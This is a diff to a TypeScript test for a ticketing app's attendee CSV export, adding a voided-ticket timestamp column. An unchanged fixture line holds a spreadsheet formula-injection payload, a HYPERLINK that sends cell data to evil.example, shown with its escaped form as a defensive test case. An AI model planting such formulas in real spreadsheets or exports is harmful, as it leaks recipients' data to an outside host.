@@ -13,13 +13,14 @@ import { createApiToken } from "../../domain/accounts/api-tokens.ts";
 import type { RunningServer } from "../../server.ts";
 import type { Store } from "../../store/index.ts";
 import { manageSession } from "../../testing/manage-session.ts";
-import { rows } from "../../testing/sql.ts";
+import { rows, run } from "../../testing/sql.ts";
 import { startServerOn, testStores } from "../../testing/stores.ts";
 
 const EVENT = 101;
 /** Every 51st is pending, without tickets: 500 orders with 2 tickets, and more orders than two pages (250). */
 const ORDERS = 510;
 const pendingAt = (i: number) => i % 51 === 50;
+const VOIDED_AT = Date.UTC(2026, 5, 20, 12, 0, 0);
 /** Names a spreadsheet would run or misread, and what the export must make of them. */
 const TRICKY: [name: string, exported: string][] = [
   ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`],
@@ -142,15 +143,19 @@ async function seedAttendees(store: Store) {
       updated_at: 0,
     })
     .execute();
+  // One ticket was voided by a refund: the export says when.
+  await run(store, "UPDATE issued_tickets SET voided_at = ? WHERE id = ?", VOIDED_AT, "exp-0020-t1");
 }
 
 /** The attendee rows as the database has them, escaped as the export must escape them. */
 async function attendeesInDb(store: Store): Promise<string[][]> {
-  const found = await rows<Record<string, string | null>>(
+  type Row = Record<"code" | "ticket_name" | "first_name" | "last_name" | "email" | "id" | "created_at", string> &
+    Record<"status" | "buyer" | "unit_price" | "currency", string> & { voided_at: string | number | null };
+  const found = await rows<Row>(
     store,
     `SELECT t.code, l.ticket_name, COALESCE(a.first_name, o.first_name) AS first_name,
             COALESCE(a.last_name, o.last_name) AS last_name, COALESCE(a.email, o.email) AS email, o.id, o.created_at,
-            o.status, o.email AS buyer, l.unit_price, o.currency
+            o.status, o.email AS buyer, l.unit_price, o.currency, t.voided_at
        FROM issued_tickets t JOIN orders o ON o.id = t.order_id
        JOIN order_lines l ON l.order_id = t.order_id AND l.ticket_id = t.ticket_id
        LEFT JOIN ticket_attendees a ON a.ticket_id = t.id
@@ -159,18 +164,18 @@ async function attendeesInDb(store: Store): Promise<string[][]> {
   );
   const escaped = new Map(TRICKY);
   return found.map((r) => [
-    r.code!,
-    r.ticket_name!,
-    escaped.get(r.first_name!) ?? r.first_name!,
-    r.last_name!,
-    r.email!,
-    r.id!,
-    r.created_at!,
-    r.status!,
-    r.buyer!,
-    r.unit_price!,
-    r.currency!,
-    "",
+    r.code,
+    r.ticket_name,
+    escaped.get(r.first_name) ?? r.first_name,
+    r.last_name,
+    r.email,
+    r.id,
+    r.created_at,
+    r.status,
+    r.buyer,
+    r.unit_price,
+    r.currency,
+    r.voided_at === null ? "" : new Date(Number(r.voided_at)).toISOString(),
   ]);
 }
 
@@ -237,6 +242,7 @@ describe.each(testStores)("exports on %s", (_name, kind) => {
     expect(fromCsv.slice(1)).toEqual(expected);
     expect(fromCsv.find((r) => r[0] === "CODE-0-1")?.[2]).toBe(TRICKY[0]![1]);
     expect(fromCsv.find((r) => r[0] === "CODE-10-2")?.slice(2, 5)).toEqual(["Own", "Guest", "own@example.org"]);
+    expect(fromCsv.find((r) => r[0] === "CODE-20-1")?.[11]).toBe("2026-06-20T12:00:00.000Z");
 
     const xlsx = await get("attendees.xlsx", owner.headers);
     expect(xlsx.res.status).toBe(200);
